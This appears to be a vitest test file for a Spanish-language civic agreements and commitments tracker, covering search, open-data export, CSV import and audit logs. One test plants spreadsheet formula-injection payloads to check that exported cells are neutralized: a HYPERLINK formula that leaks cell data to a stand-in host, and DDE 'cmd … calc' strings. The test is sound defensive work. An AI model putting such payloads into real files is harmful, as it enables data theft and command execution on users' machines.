import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { AGREEMENT_COLUMNS, COMMITMENT_COLUMNS, exportOpenData, openDataJsonSchemas } from '../../main/core/domain/open-data'
import { auditCsv } from '../../main/core/domain/audit'
import { neutralizeCell } from '../../main/core/domain/csv-out'
import { parseProgressCsv } from '../../main/core/domain/progress-csv'
import { search } from '../../main/core/domain/search'
import { demoData } from '../support/bridge'
import { NOW, TODAY } from '../support/clock'
import { bytesOf, demoBridge } from './helpers'

const demo = () => demoData({ sessions: 14, seed: 4 })

function setup() {
  return demoBridge({ sessions: 14, seed: 4 })
}

describe('búsqueda sin acentos', () => {
  const data = demo()
  it('«sesion» encuentra «Sesión» y los resultados conservan los acentos', () => {
    const hits = search(data, 'sesion ordinaria')
    expect(hits.length).toBeGreaterThan(0)
    expect(hits[0]?.kind).toBe('sesion')
    expect(hits[0]?.title).toMatch(/Sesión Ordinaria/)
  })
  it('encuentra integrantes, acuerdos, compromisos y minutas; todos los términos deben aparecer', () => {
    const member = data.members[0]
    if (!member) throw new Error('demo')
    const surname = member.fullName.split(' ').at(-1) ?? ''
    expect(search(data, surname.normalize('NFD').replace(/\p{M}/gu, '').toUpperCase()).some((hit) => hit.kind === 'integrante' && hit.id === member.id)).toBe(true)
    const agreement = data.agreements[0]
    expect(search(data, agreement?.key ?? '').some((hit) => hit.kind === 'acuerdo' && hit.id === agreement?.id)).toBe(true)
    expect(search(data, 'transparencia').some((hit) => hit.kind === 'compromiso')).toBe(true)
    expect(search(data, 'quorum').some((hit) => hit.kind === 'minuta')).toBe(true)
    expect(search(data, 'sesion zzzzzz')).toEqual([])
    expect(search(data, '   ')).toEqual([])
  })
  it('refleja los cambios: un objeto nuevo se indexa y uno reemplazado deja de aparecer', () => {
    const changed = { ...data, members: [...data.members, { ...(data.members[0] as (typeof data.members)[number]), id: 'int-nuevo', fullName: 'Ximena Ñandú Péreztrejo' }] }
    expect(search(changed, 'nandu pereztrejo').map((hit) => hit.id)).toEqual(['int-nuevo'])
    expect(search(data, 'nandu pereztrejo')).toEqual([])
  })
})

describe('datos abiertos', () => {
  const data = demo()
  it('CSV en UTF-8 con BOM, columnas documentadas y acentos intactos', () => {
    for (const [what, columns] of [['acuerdos', AGREEMENT_COLUMNS], ['compromisos', COMMITMENT_COLUMNS]] as const) {
      const csv = exportOpenData(data, what, 'csv', NOW)
      expect(csv.charCodeAt(0)).toBe(0xfeff)
      const bytes = Buffer.from(csv, 'utf8')
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
      const parsed = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true })
      expect(parsed.errors).toEqual([])
      expect(parsed.data[0]).toEqual([...columns])
      expect(csv).toMatch(/[áéíóúñ]/)
    }
  })
  it('ninguna celda de los CSV que escribe la aplicación es una fórmula viva (acuerdos, compromisos, bitácora)', () => {
    const hostile = structuredClone(data)
    const agreement = hostile.agreements[0]
    const commitment = hostile.commitments[0]
    const milestone = commitment?.milestones[0]
    if (!agreement || !commitment || !milestone) throw new Error('demo sin acuerdos o hitos')
    agreement.text = '=HYPERLINK("https://ejemplo.invalid/?d="&A1,"Ver acuerdo")'
    commitment.title = '+cmd|" /C calc"!A0'
    milestone.evidence = '@SUM(1+1)*cmd|" /C calc"!A0'
    for (const member of hostile.members) if (agreement.responsibleMemberIds.includes(member.id)) member.fullName = '-2+3+cmd|" /C calc"!A0'
    hostile.audit.push({ id: 'aud-formula', at: NOW.toISOString(), profile: '\t=1+1', entity: 'configuracion', entityId: 'x', action: 'editar', summary: '\r=1+1' })
    const cells = [
      ...Papa.parse<string[]>(exportOpenData(hostile, 'acuerdos', 'csv', NOW).slice(1), { skipEmptyLines: true }).data.flat(),
      ...Papa.parse<string[]>(exportOpenData(hostile, 'compromisos', 'csv', NOW).slice(1), { skipEmptyLines: true }).data.flat(),
      ...Papa.parse<string[]>(auditCsv(hostile.audit).slice(1), { skipEmptyLines: true }).data.flat(),
    ]
    // A spreadsheet evaluates a cell starting with = + - @ (or a tab or carriage return): none does, except plain numbers.
    const live = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(?:[.,]\d+)?$/.test(cell))
    expect(live).toEqual([])
    expect(cells).toContain(`'${agreement.text}`)
    expect(cells).toContain(`'${commitment.title}`)
    expect(cells.some((cell) => cell.startsWith("'@SUM"))).toBe(true)
    expect(cells).toContain("'\r=1+1")
    // A negative number stays a number.
    expect(neutralizeCell('-3')).toBe('-3')
    expect(neutralizeCell(-3)).toBe(-3)
    expect(neutralizeCell('-3 días')).toBe("'-3 días")
  })
  it('JSON válido contra la forma documentada', () => {
    for (const what of ['acuerdos', 'compromisos'] as const) {
      const json = JSON.parse(exportOpenData(data, what, 'json', NOW)) as unknown
      const parsed = openDataJsonSchemas[what].parse(json)
      expect(parsed.registros.length).toBeGreaterThan(0)
    }
    const agreements = openDataJsonSchemas.acuerdos.parse(JSON.parse(exportOpenData(data, 'acuerdos', 'json', NOW)))
    expect(agreements.registros.some((record) => record.estado === 'vencido')).toBe(true)
  })
})

describe('importación de avance de hitos', () => {
  it('ida y vuelta: exportar e importar el mismo CSV no cambia nada y no escribe', async () => {
    const { store, dataFile, call } = await setup()
    const exported = await call('exportOpenData', { what: 'compromisos', format: 'csv' })
    const before = await bytesOf(dataFile)
    const report = await call('importProgressCsv', progressFile(exported.content))
    expect(report).toMatchObject({ valid: true, changes: 0, applied: false })
    expect(await bytesOf(dataFile)).toEqual(before)
    await store.close()
  })

  it('aplica cambios sólo si todas las filas son válidas, con mensajes por fila', async () => {
    const { store, dataFile, call } = await setup()
    const commitment = store.data.commitments.find((candidate) => candidate.milestones.some((milestone) => milestone.status === 'en-proceso'))
    const milestone = commitment?.milestones.find((candidate) => candidate.status === 'en-proceso')
    const other = store.data.commitments.flatMap((candidate) => candidate.milestones).find((candidate) => candidate.id !== milestone?.id)
    if (!commitment || !milestone || !other) throw new Error('demo')
    const bad = `hito_id,hito_avance,hito_estado\n${milestone.id},80,en proceso\n${other.id},150,completado\nhit-nadie,10,en-proceso\n${other.id},0,terminado\n`
    const before = await bytesOf(dataFile)
    const report = await call('importProgressCsv', progressFile(bad))
    expect(report.valid).toBe(false)
    expect(report.applied).toBe(false)
    const messages = Object.fromEntries(report.rows.map((row) => [row.line, row.errors.join(' | ')]))
    expect(messages[2]).toBe('')
    expect(messages[3]).toMatch(/avance «150» no válido \(un entero de 0 a 100\)/)
    expect(messages[4]).toMatch(/el hito «hit-nadie» no existe/)
    expect(messages[5]).toMatch(/estado «terminado» no válido/)
    expect(messages[5]).toMatch(/aparece más de una vez/)
    expect(await bytesOf(dataFile)).toEqual(before)

    const progressBefore = (await call('getPlanOverview', undefined)).commitments.find((candidate) => candidate.id === commitment.id)?.progress
    const good = await call('importProgressCsv', progressFile(`hito_id,hito_avance,hito_estado\n${milestone.id},100,completado\n`))
    expect(good).toMatchObject({ valid: true, changes: 1, applied: true })
    const progressAfter = (await call('getPlanOverview', undefined)).commitments.find((candidate) => candidate.id === commitment.id)?.progress
    expect(progressAfter).toBeGreaterThan(progressBefore ?? 0)
    await store.close()
  })

  it('rechaza archivos sin las columnas necesarias', () => {
    expect(parseProgressCsv('id,avance\n1,2\n', demo()).rows[0]?.errors[0]).toBe('Faltan columnas obligatorias: hito_id, hito_avance, hito_estado.')
  })
})

describe('seguimiento de acuerdos entre sesiones', () => {
  it('un seguimiento con evidencia aparece en el punto de seguimiento de la sesión siguiente', async () => {
    const { store, call } = await setup()
    const next = store.data.sessions.find((session) => session.status === 'convocada')
    if (!next) throw new Error('demo')
    const before = await call('getSession', { id: next.id })
    const open = before.pendingAgreements[0]
    if (!open) throw new Error('sin acuerdos pendientes')
    expect(before.pendingAgreements.every((row) => ['pendiente', 'en-proceso', 'vencido'].includes(row.state))).toBe(true)
    const updated = await call('addFollowUp', {
      agreementId: open.id,
      date: TODAY,
      note: 'Se publicó la información en el portal de transparencia.',
      evidenceUrl: 'https://transparencia.example.org/informe',
      evidenceFile: { fileName: 'evidencia.txt', contentBase64: Buffer.from('Evidencia de cumplimiento').toString('base64') },
      sessionId: next.id,
      status: 'en-proceso',
    })
    expect(updated.followUps.at(-1)).toMatchObject({ note: 'Se publicó la información en el portal de transparencia.', sessionId: next.id, evidenceFile: { fileName: 'evidencia.txt' } })
    const after = await call('getSession', { id: next.id })
    expect(after.pendingAgreements.find((row) => row.id === open.id)?.followUps.at(-1)?.note).toBe('Se publicó la información en el portal de transparencia.')
    await store.close()
  })
})

describe('tablero y bitácora', () => {
  it('resume avance por pilar e institución, hitos próximos y acuerdos vencidos', async () => {
    const { store, call } = await setup()
    const dashboard = await call('getDashboard', undefined)
    expect(dashboard.plan?.name).toMatch(/PAL/)
    expect(dashboard.byPillar.length).toBeGreaterThan(0)
    expect(dashboard.byInstitution.length).toBeGreaterThan(0)
    expect(dashboard.overdueAgreements.every((row) => row.state === 'vencido')).toBe(true)
    expect(dashboard.agreementsByState.reduce((sum, entry) => sum + entry.count, 0)).toBe(store.data.agreements.length)
    await store.close()
  })
  it('filtra la bitácora y la exporta con BOM', async () => {
    const { store, call } = await setup()
    await call('updateSettings', { ...store.data.settings, defaultVenue: 'Casa Jalisco' })
    const filtered = await call('listAudit', { entity: 'configuracion', text: 'configuracion' })
    expect(filtered[0]?.summary).toBe('Configuración actualizada')
    const exported = await call('exportAudit', { entity: 'configuracion' })
    expect(exported.content.startsWith('\uFEFFfecha_hora,perfil,entidad')).toBe(true)
    await store.close()
  })
})

/** A progress CSV as the import dialog sends it: its name and its bytes, applied. */
function progressFile(text: string) {
  return { fileName: 'avance.csv', contentBase64: Buffer.from(text, 'utf8').toString('base64'), apply: true }
}
